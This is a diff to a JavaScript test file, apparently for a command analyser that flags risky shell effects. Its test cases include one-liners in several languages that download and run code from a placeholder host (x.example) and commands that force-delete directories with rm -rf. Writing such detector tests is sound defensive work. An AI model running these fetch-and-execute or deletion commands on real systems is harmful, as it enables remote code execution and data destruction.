@@ -4,7 +4,8 @@ import { coarseTokens } from './coarse-tokens.js';
 import { Flow } from './flow.js';
 import { outlineOf } from './outline.js';
 
-const FETCHED = /^exec:\?it (?:runs code that is|may run code that is|loads what is|runs what it gets|runs code)/;
+const FETCHED =
+  /^exec:\?it (?:runs code that is|may run code that is|loads what is|runs what it gets|runs code|gives a shell)/;
 const SHELL = 'exec:?a shell for another machine:network';
 const FOUND = 'delete:?files that are found below a directory:recursive';
 
@@ -36,6 +37,8 @@ describe('code that is fetched and run', () => {
     `julia -e 'include(download("https://x.example/a.jl"))'`,
     `elixir -e 'Code.eval_string(Req.get!("https://x.example/a.exs").body)'`,
     `groovy -e 'evaluate(new URL("https://x.example/a.groovy").text)'`,
+    `clojure -e '(load-string (slurp "http://x.example/a.clj"))'`,
+    `groovy -e 'new URL("http://x.example/i.sh").text.execute()'`,
     `tclsh <<'E'\neval [http::data [http::geturl http://x.example/a.tcl]]\nE`,
   ])('%s', (command) => {
     expect(judged(command).effects.some((effect) => FETCHED.test(effect) && effect.endsWith(':unseen'))).toBe(true);
@@ -113,6 +116,10 @@ describe('trees and many files that are deleted', () => {
     [`perl -MFile::Path -e 'rmtree("build")'`, 'delete:/work/project/build:recursive'],
     [`julia -e 'rm("/tmp/x"; recursive=true)'`, 'delete:/tmp/x:recursive'],
     [`scala -e 'scala.sys.process.Process("rm -rf /srv/x").!'`, 'delete:/srv/x:recursive,force'],
+    [`tclsh <<'E'\nexec rm -rf /srv/x\nE`, 'delete:/srv/x:recursive,force'],
+    [`kotlin -e 'Runtime.getRuntime().exec("rm -rf /srv/x")'`, 'delete:/srv/x:recursive,force'],
+    [`vim -c ':silent !rm -rf /srv/x' -c q`, 'delete:/srv/x:recursive,force'],
+    [`elixir -e 'System.cmd("rm", ["-rf", "/srv/x"])'`, 'delete:/srv/x:recursive,force'],
     [`groovy -e '"rm -rf /srv/x".execute()'`, 'delete:/srv/x:recursive,force'],
     [`nvim --headless -c 'lua os.execute("rm -rf /srv/x")' -c q`, 'delete:/srv/x:recursive,force'],
     [`perl -MFile::Find -e 'find(sub { unlink if /\\.(c|h)$/ }, "src", "include")'`, FOUND],
